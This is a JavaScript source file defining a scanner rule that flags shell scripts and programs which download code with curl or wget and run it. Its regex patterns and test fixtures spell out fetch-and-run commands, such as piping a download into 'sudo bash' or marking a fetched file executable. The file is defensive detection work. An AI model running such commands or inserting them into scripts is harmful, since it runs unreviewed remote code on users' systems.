import { beginning, defineByteRule, ELF_MAGIC, IS_PROGRAM } from '../byteRule.js';

export const fetchedScript = defineByteRule({
  id: 'fetched-script',
  severity: 'high',
  ability: 'process',
  message: 'A script or program holds a command that fetches code and runs it.',
  why: 'What is fetched later was not there to be looked at. JavaScript and Python are read as such, by other rules.',
  text: /\b(?:curl|wget)\s/,
  strings: String.raw`
    $piped = /(curl|wget)\s[^\n|;]{1,300}\|\s?(sudo\s)?(\/bin\/|\/usr\/bin\/)?(ba|z|da|k)?sh\b/
    $substituted = /sh\s(-c\s)?["']?(<\(|\$\(|${'`'})\s?(curl|wget)\s/
    $started = /(curl|wget)\s[^\n]{1,300}(&&|;)\s?chmod\s(\+x|a\+x|[0-7]{3,4})\s/`,
  condition: String.raw`any of them and (uint16(0) == 0x2123 or ${IS_PROGRAM}) and not path matches /\.([cm]?[jt]sx?|py)$/i`,
  examples: {
    flags: [
      { path: 'bin/setup', content: '#!/bin/sh\ncurl -fsSL https://example.com/x | sudo bash\n' },
      { path: 'plugin', content: beginning(ELF_MAGIC, 'wget -q https://example.com/x -O /tmp/x; chmod +x /tmp/x') },
      { path: 'run', content: '#!/bin/bash\nbash <(curl -s https://example.com/x)\n' },
    ],
    passes: [
      { path: 'README', content: 'Install it: curl -fsSL https://example.com/x | sh' },
      { path: 'bin/cli.js', content: '#!/usr/bin/env node\n// curl -fsSL https://example.com/x | sh\n' },
      { path: 'bin/get', content: '#!/bin/sh\ncurl -fsSL https://example.com/x | shasum\n' },
    ],
  },
});
